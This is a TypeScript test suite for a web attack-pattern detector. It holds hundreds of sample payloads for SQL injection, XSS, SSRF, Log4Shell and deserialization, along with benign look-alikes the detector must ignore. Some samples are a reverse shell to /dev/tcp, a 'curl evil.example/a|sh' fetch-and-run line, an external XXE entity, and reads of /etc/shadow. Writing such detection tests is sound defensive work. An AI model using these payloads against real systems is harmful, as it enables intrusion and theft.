import { SIGNS_VERSIONS } from './attack_categories';
import { attackPatternsOf, MORE_KINDS, matchesSequence, MAX_GAP } from './attack_patterns';
import { decodeText } from './text_statistics';

const categoriesIn = (text: string, patterns = MORE_KINDS): string[] => [
  ...new Set(patterns.findIn(decodeText(text)).map((index) => patterns.patterns[index].category)),
];

describe('attack patterns', () => {
  it.each([
    ['sql_injection', '/p?id=1%27%20UNION/**/ALL%20SELECT%20name'],
    ['sql_injection', "/p?id=1' or '1'='1"],
    ['sql_injection', '/p?id=-1+union+select+1,2,user()'],
    ['sql_injection', '/p?id=1;drop+table+users'],
    ['sql_injection', '/p?id=1+order+by+9--+'],
    ['sql_injection', '/p?id=1+and+(select+1+from+users)=1'],
    ['sql_injection', '/p?id=if(1,sleep(5),0)'],
    ['sql_injection', '/p?id=1--'],
    ['sql_injection', "/p?id=admin'--+-"],
    ['sql_injection', "/p?id=1'+order+by+5--+-"],
    ['sql_injection', "/p?id=x';select+pg_sleep(5)"],
    ['sql_injection', '/p?q=select+login,password+from+members'],
    ['sql_injection', "/p?q=select+name+from+members+where+id='1"],
    ['sql_injection', '/p?id=(1)and(select+*+from+users)'],
    ['sql_injection', '/p?id=1;delete+from+users'],
    ['sql_injection', "/p?q=x%25'+or+name+like+'%25"],
    ['cross_site_scripting', '/p?q=%253Cscript%253Ealert(1)%253C/script%253E'],
    ['cross_site_scripting', '/p?q=&lt;script&gt;'],
    ['cross_site_scripting', '/p?q=%26%23x3c%3Bscript%26%2362%3B'],
    ['cross_site_scripting', '/p?q=\\u003cscript\\x3e'],
    ['cross_site_scripting', '/p?q=%u003cscript%u003e'],
    ['cross_site_scripting', '/p?q=%EF%BC%9Cscript%EF%BC%9E'],
    ['cross_site_scripting', '/p?q=\uff1cscript\uff1e'],
    ['cross_site_scripting', '/p?q=x%22%20onmouseover%3Dprompt(1)'],
    ['command_injection', '/p?host=1.1.1.1;cat /etc/hosts'],
    ['command_injection', '/p?cmd=whoami'],
    ['command_injection', '/p?host=1.1.1.1%3Bnetstat%20-an'],
    ['command_injection', '/p?host=1.1.1.1|id'],
    ['command_injection', '/p?f=%3Bsystem(%27ls%27)'],
    ['path_traversal', '/p?file=..%2f..%2fetc/passwd'],
    ['path_traversal', '/p?file=/etc/shadow'],
    ['path_traversal', '/p?file=%c0%ae%c0%ae/%c0%ae%c0%ae/x'],
    ['path_traversal', '/.env'],
    ['template_injection', '/p?name={{7*7}}'],
    ['ldap_injection', '/p?user=*)(uid=*))'],
    ['log4shell', '${jndi:ldap://host/a}'],
    ['null_byte', '/p?file=a.php%00.jpg'],
    ['scanner', 'sqlmap/1.7 (https://sqlmap.org)'],
    ['scanner', 'Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)'],
    ['scanner', 'Mozilla/5.00 (Nikto/2.1.6) (Evasions:None)'],
    ['command_injection', '() { :; }; /bin/bash -c id'],
    ['scanner', 'Mozilla/4.0 (Hydra)'],
    ['scanner', 'Fuzz Faster U Fool v2.1.0'],
    ['scanner', 'WPScan v3.8.22 (https://wpscan.com/)'],
    ['header_injection', '/p?x=1%0d%0aSet-Cookie:%20a=b'],
    ['header_injection', '/p?x=1%250D%250AContent-Length:%200'],
    ['header_injection', '/p?x=%0aHTTP/1.1%20200%20OK'],
    ['header_injection', '/p?to=a@b.c%0abcc:x@y.z'],
    ['header_injection', '/p?x=%E5%98%8A%E5%98%8DSet-Cookie:a'],
    ['request_forgery', '/p?url=http%3A%2F%2F169.254.169.254/latest/meta-data/'],
    ['request_forgery', '/p?url=http://metadata.google.internal/'],
    ['request_forgery', '/p?url=http://0x7f000001/'],
    ['request_forgery', '/p?url=http://127.1'],
    ['request_forgery', '/p?url=http://[::ffff:127.0.0.1]/'],
    ['request_forgery', '/p?url=http://localhost:22'],
    ['request_forgery', '/p?url=gopher://127.0.0.1:6379/_INFO'],
    ['request_forgery', '/p?url=dict://localhost:11211/stat'],
    ['path_traversal', '/p?page=php://filter/convert.base64-encode/resource=index'],
    ['object_injection', '/p?d=rO0ABXNyABFqYXZhLnV0aWw'],
    ['object_injection', '/p?d=aced00057372'],
    ['object_injection', '/p?d=O:8:"stdClass":1:{s:1:"a";i:1;}'],
    ['object_injection', '/p?d=AAEAAAD%2F%2F%2F%2F%2FAQAAAA'],
    ['object_injection', '/p?d=gASVIAAAAAAAAACMBXBvc2l4'],
    ['object_injection', '{"rce":"_$$ND_FUNC$$_function(){}"}'],
    ['object_injection', '{"@type":"com.sun.rowset.JdbcRowSetImpl"}'],
    ['object_injection', '/p?__proto__[admin]=1'],
    ['object_injection', '/p?constructor[prototype][admin]=1'],
    ['template_injection', '/p?x=%25{(%23a=1)}'],
    ['template_injection', '/p?x=${T(java.lang.Runtime)}'],
    ['template_injection', '/p?class.module.classLoader.resources.x=1'],
    ['template_injection', `/p?n={{ request.application${'.a'.repeat(60)} }}`],
    ['template_injection', '/p?n={%25+import+os+%25}'],
    ['template_injection', '/p?n=%23set($x=7*7)'],
    ['log4shell', '${j${k8s:k5:-ND}i:ldap://x}'],
    ['log4shell', '${jn${upper:d}i:ldap}'],
    ['log4shell', '$%{jndi:ldap://x}'],
    ['log4shell', '${script:javascript:1}'],
    ['scanner', '/graphql?query={__schema{types{name}}}'],
    ['scanner', 'Wapiti/3.0'],
    ['command_injection', '/p?h=x|nslookup+evil.example'],
    ['command_injection', '/p?h=;wget${IFS}evil'],
    ['command_injection', '/p?h=x%26%26ls'],
    ['command_injection', '/p?h=;bash+-i+>%26+/dev/tcp/1.2.3.4/99'],
    ['command_injection', '/p?h=x;curl+evil.example/a|sh'],
    ['command_injection', '/p?x=<?php+x;?>'],
    ['command_injection', '/index.php?-d+allow_url_include%3don'],
    ['xml_injection', '<!DOCTYPE a [<!ENTITY % x SYSTEM "http://evil/x.dtd"> %x;]>'],
    ['xml_injection', "/p?u=x']|//*|//*['"],
    ['xml_injection', '/p?u=string-length(//user[1]/name)'],
    ['nosql_injection', '/p?username[$ne]=1&password%5B%24ne%5D=1'],
    ['nosql_injection', '{"username":{"$ne":null}}'],
    ['nosql_injection', '/p?x[$where]=1'],
    ['ldap_injection', '/p?u=admin)(%26)'],
    ['path_traversal', '/p?file=%e0%80%ae%e0%80%ae/x'],
    ['path_traversal', '/p?file=%f0%80%80%ae%f0%80%80%ae/x'],
    ['path_traversal', '/p?file=%2525252e%2525252e%2525252f'],
    ['path_traversal', '/p?file=%uff0e%uff0e%u2215'],
  ])('finds %s in %s', (category, text) => expect(categoriesIn(text)).toContain(category));

  it.each([
    '/',
    '/blog/geekery/solving-good-or-bad-problems.html?utm_source=feedburner&utm_medium=feed',
    '/search?q=rock+and+roll&page=2',
    '/files/archive-2.1.0.tar.gz',
    'Mozilla/5.0 (X11; Linux x86_64; rv:26.0) Gecko/20100101 Firefox/26.0',
    '/account/select?unit=metric',
  ])('finds nothing in %s', (text) => expect(categoriesIn(text)).toEqual([]));

  // Words and names that hold a sign, or are one where no code stands: models of before take each of them for an attack.
  it.each([
    '/api/netstats',
    '/api/netstat',
    '/docs/whoami',
    'Opera/9.80 (MTK; Opera Mini/2.1199; U; id) Presto/2.8.119 Version/11.10',
    '/misc/tempest.netstat.Jan05',
    '/blog/nmap-for-beginners',
    '/wiki/nuclei',
    '/tools/nikto/2.1',
    '/monsters/hydra-nebula',
    '/search?q=learn+nmap',
    '/unionselect/shoes?size=4',
    '/shop/union-select-jeans',
    '/api/broadcast(1)',
    '/calls/throw(5)?row=2',
    '/report?fields=belt(s),char(s)',
    '/search?q=shoes+like+nike',
    '/search?q=flat+with+3+or+4+bedrooms&page=2',
    '/search?q=places+where+i+live&sort=name',
    '/search?q=mugs+order+by+post',
    '/search?q=(big)+and+small',
    '/search?q=select+a+gift&from=home',
    '/search?q=drop+table+leaf',
    '/search?q=the+boys%27+or+girls',
    '/search?q=just+in+case+when',
    '/common/download=1',
    '/events?type=buttonclick=1',
    '/a/winntours.html',
    '/team/analysys.html',
    '/mail/shail@arrsys.mz',
    '/repo.git/info/refs?service=git-upload-pack',
    '/.environment/x',
    '/docs/powershell/intro',
    '/blog/etc/designs/main.css',
    '/feed/reboot.ini.html',
    '/x?profile://y',
    'jdbc:/x?rpc://host',
    'java.lang.Class.cast(Class.java:3369) at java.lang.Thread.sleep(Native Method)',
    '3 row(s) affected, 2 alert(s)',
    '{"a":null,"b":null}',
    'session=1; id=5; theme=dark',
    'name|id|email',
    'To be continued /...',
    // Prose, in which keywords of SQL are words, quotes are names, and two hyphens are a dash.
    'please select a size from the list',
    'could you select another size or drop it from my order -- thanks',
    'Select a colour, a size and a style from the list; then order by post',
    'Please select sizes (small, medium) from the drop-down',
    'I want 3 order by Friday',
    ';-) order by size',
    "It's late!! drop table legs",
    'Drop table lamp, 2 pieces; thanks',
    "I can't delete from my cart where it says remove",
    "We're having 3 children and having trouble (again)",
    `looks like 3 items, something like 'foo' or "bar"`,
    "argument must be 'a' or 'b' and not 'c'",
    'a place where people like me live',
    'where can I buy (2 pieces)?',
    'just in case when it rains then we stay at the end',
    'insert into the form these values',
    'European Union (EU) citizens select their members',
    "He didn't select anything from 'Deals'",
    'Bitte wählen Sie eine Größe aus der Liste (2) -- danke',
    "Veuillez sélectionner une taille; c'est l'été",
    'r5---sn-uggm0lkx.googlevideo.com',
    "so-called 'boss'--he was right",
    'settings; select a size',
    "Unknown column 'x'; skipping",
    'args=[null, null, 3]',
    '/products/5#',
    '/api/update?set=3',
  ])('takes %s for no attack, which models of before do', (text) => {
    expect(categoriesIn(text)).toEqual([]);
  });

  it.each([
    ['5--', '/p?id=5--'],
    ["'--", "/p?id=admin'--"],
    ['order by', "/p?id=1'+order+by+5"],
    ['curl http', '/p?u=curl+http://a.b'],
  ])('names the sign %s as it stands in %s', (name, text) => {
    expect(MORE_KINDS.describe(decodeText(text)).map((sign) => sign.name)).toContain(name);
  });

  // Each looks like an attack of a further kind, and comes by the thousand in ordinary traffic.
  it.each([
    '/oauth/authorize?client_id=a&redirect_uri=http://localhost:3000/callback',
    '/oauth/authorize?redirect_uri=http%3A%2F%2F127.0.0.1%3A51004%2Fcallback',
    '/oauth/authorize?redirect_uri=http://[::1]:61023/',
    '/login?returnUrl=//home.m.shop.example/my',
    '/_next/image?url=http%3A%2F%2Flocalhost%3A1337%2Fuploads%2Fa.jpg&w=640',
    '/proxy?url=https://shop.example/img/a.png',
    '/?utm_campaign={{campaign.name}}|{{campaign.id}}&utm_content={{ad.name}}',
    '/img/{{item.image.url}}',
    'Page bounds {{0, 0}, {400, 400}} (main)',
    '/api/users?filters[id][$in]=1&filters[$or][0][title][$containsi]=x&filters[email][$eq]=a@b.c',
    '/api/people?age[$gt]=5&$limit=10&status[$ne]=archived',
    '/api/people?where={"deleted":{"$ne":null},"name":{"$regex":"^foo"}}',
    "/odata/Products?$filter=Price gt 20 and Name eq 'Milk'&$orderby=Name",
    '/graphql?query={product(id:5){name __typename price}}&variables={"id":5}',
    '{"@context":"https://schema.org","@type":"Product","name":"Milk"}',
    '{"$type":"Shop.Orders.Placed, Shop","Id":5}',
    '/search?q=wget+%26+curl+tutorial',
    '/search?q=alexa|echo+dot',
    '/search?q=python|bash|go',
    '/search?q=what+is+__proto__',
    '/search?q=gasversorgung',
    '/p?s=rO0m5sAyyQ&state=H4sIAAAAAAAAA6tWKkktLlGyUlAqS8wpTgUAEjc',
    '/p?__VIEWSTATE=%2FwEPDwUKLTg',
    '/calendar?details=Meeting%0D%0ALocation:%20https://zoom.example/j/1%0D%0AHost:%20Ann',
    '/contact?message=Name:%20Ann%0D%0ASubject:%20Hi%0D%0ACc:%20x@y.z',
    '/p?style={width:100%}',
    '/find?q=a:2:{i:0;s:1:"x";i:1;s:1:"y";}',
    '/list?fields=id;user;pwd;env;dir;hostname',
    'Get "http://169.254.169.254/latest/meta-data/": context deadline exceeded',
    'elasticsearch.url=http://localhost:9200 kibana.host=0.0.0.0',
    'listening url=http://0.0.0.0:8080',
    'Could not resolve placeholder in value "${spring.redis.host:${REDIS_HOST:localhost}}"',
    'at java.lang.Runtime.loadLibrary0(Runtime.java:870)',
    'at java.lang.ProcessBuilder.start(ProcessBuilder.java:1048)',
    'at ChildProcess.exithandler (node:child_process:414:12)',
    'PHP Warning:  file_get_contents(http://a.b/c): failed to open stream in /srv/www/x.php on line 12',
    "#0 /srv/a.php(12): call_user_func_array('x', Array)",
    'in import_module  __import__(name)',
    'Unexpected token, <!DOCTYPE html><html lang="en"> is not valid JSON',
    'grok pattern %{NUMBER:bytes} %{WORD:verb} not matched',
    'python-requests/2.31.0',
    'Mozilla/5.0 (compatible; CensysInspect/1.1; +https://about.censys.io/)',
    '/redirect?u=https%253A%252F%252Fshop.example%252Fa%2526b',
    '/p?q=%F0%9F%98%80+%E0%A4%B9%E0%A4%BF',
  ])('takes %s for no attack', (text) => expect(categoriesIn(text)).toEqual([]));

  it('leaves models that were trained before signs of more kinds as they are', () => {
    const before = attackPatternsOf('in_context');
    expect(before.patterns).toHaveLength(187);
    expect(before.categories).not.toContain('header_injection');
    expect(categoriesIn('/p?n={{campaign.name}}', before)).toEqual(['template_injection']);
    for (const text of ['/p?d=rO0ABXNy', '/p?x=%0aSet-Cookie:a', '/p?f=%2525252e./x', '/p?f=%e0%80%ae./']) {
      expect(categoriesIn(text, before)).toEqual([]);
      expect(categoriesIn(text)).not.toEqual([]);
    }
  });

  it('leaves models that were trained before as they are', () => {
    const before = attackPatternsOf(undefined);
    expect(before.patterns).toHaveLength(192);
    for (const text of ['/api/netstats', '/api/broadcast(1)', '/search?q=shoes+like+nike', '/wiki/nuclei']) {
      expect(categoriesIn(text, before)).not.toEqual([]);
    }
    expect(categoriesIn('/p?q=&lt;script&gt;', before)).toEqual([]);
  });

  it('finds every pattern in its own text, whatever the filter by characters', () => {
    for (const { patterns, isInContext, categories } of [undefined, ...SIGNS_VERSIONS].map(
      attackPatternsOf,
    )) {
      const bare = new Map(patterns.map((pattern) => [pattern, pattern.sequences]));
      for (const [pattern, sequences] of bare) {
        for (const sequence of sequences) {
          const text = sequence.map((part) => part.text).join(' ');
          const anywhere = sequence.map((part) => ({ ...part, before: 0, behind: 0 }));
          expect([pattern.name, matchesSequence(text, anywhere, isInContext)]).toEqual([pattern.name, true]);
        }
      }
      expect([...new Set(patterns.map(({ category }) => category))]).toEqual(categories);
    }
  });

  it('needs the parts in order, close together and in one parameter', () => {
    const parts = ['union', ' select'].map((text) => ({ text, before: 0, behind: 0 }));
    expect(matchesSequence('union all select', parts)).toBe(true);
    expect(matchesSequence(' select union', parts)).toBe(false);
    expect(matchesSequence(`union${'x'.repeat(MAX_GAP)} select`, parts)).toBe(true);
    expect(matchesSequence(`union${'x'.repeat(MAX_GAP + 1)} select`, parts)).toBe(false);
    expect(matchesSequence(`union${'x'.repeat(90)}union select`, parts)).toBe(true);
    expect(matchesSequence('union&x= select', parts)).toBe(true);
    expect(matchesSequence('union&x= select', parts, true)).toBe(false);
  });
});
